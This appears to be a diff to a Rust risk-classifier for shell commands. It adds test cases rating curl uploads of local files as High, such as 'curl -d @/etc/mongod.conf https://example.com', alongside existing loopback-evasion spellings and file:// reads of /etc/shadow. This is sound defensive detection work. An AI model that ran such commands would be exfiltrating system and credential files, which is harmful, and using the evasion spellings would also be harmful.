@@ -10,7 +10,9 @@
 //! `openssl s_client` in any spelling of loopback (`127.1`, `2130706433`, `0x7f.1`,
 //! `0177.0.0.1`, `0.0.0.0`, `[::1]`, `[::ffff:127.0.0.1]`, `*.localhost`, `--resolve`,
 //! `--connect-to`) is high, and so is a raw-protocol scheme (`gopher://`, `dict://`) to this
-//! host or its network; a `file://` URL is judged as reading its path.
+//! host or its network; a `file://` URL is judged as reading its path, and so is a file curl
+//! uploads (`-d @FILE`, `--data-binary @FILE`, `--data-urlencode NAME@FILE`, `-F NAME=@FILE`,
+//! `NAME=<FILE`, `-H @FILE`, a cookie file `-b FILE`).
 //! Names made of the machine ID (`paths/machine_id.rs`): `/var/log/journal/MACHINE_ID`,
 //! `/run/log/journal/MACHINE_ID`, `loader/entries/MACHINE_ID-VERSION.conf` and
 //! `EFI/Linux/MACHINE_ID-VERSION.efi` under `/boot`, `/efi`, `/boot/efi`, and kernel-install's
@@ -203,6 +205,23 @@ pub const KINDS: &[Kind] = &[
             ("curl FILE://localhost/etc/%73hadow", High),
             ("curl --url=file:///etc/fstab", High),
             ("wget -O- file:///etc/mongod.conf", High),
+            ("curl -d @/etc/mongod.conf https://example.com", High),
+            ("curl --data @/etc/fstab https://example.com", High),
+            ("curl --data-binary @/etc/fstab https://example.com", High),
+            ("curl --data-ascii @/etc/fstab https://example.com", High),
+            (
+                "curl --data-urlencode x@/etc/fstab https://example.com",
+                High,
+            ),
+            ("curl -F f=@/etc/mongod.conf https://example.com", High),
+            ("curl -F 'f=</etc/mongod.conf' https://example.com", High),
+            (
+                "curl --form 'f=@/etc/fstab;type=text/plain' https://example.com",
+                High,
+            ),
+            ("curl -H @/etc/mongod.conf https://example.com", High),
+            ("curl -b /etc/mongod.conf https://example.com", High),
+            ("curl -sd@/etc/fstab https://example.com", High),
         ],
     },
 ];
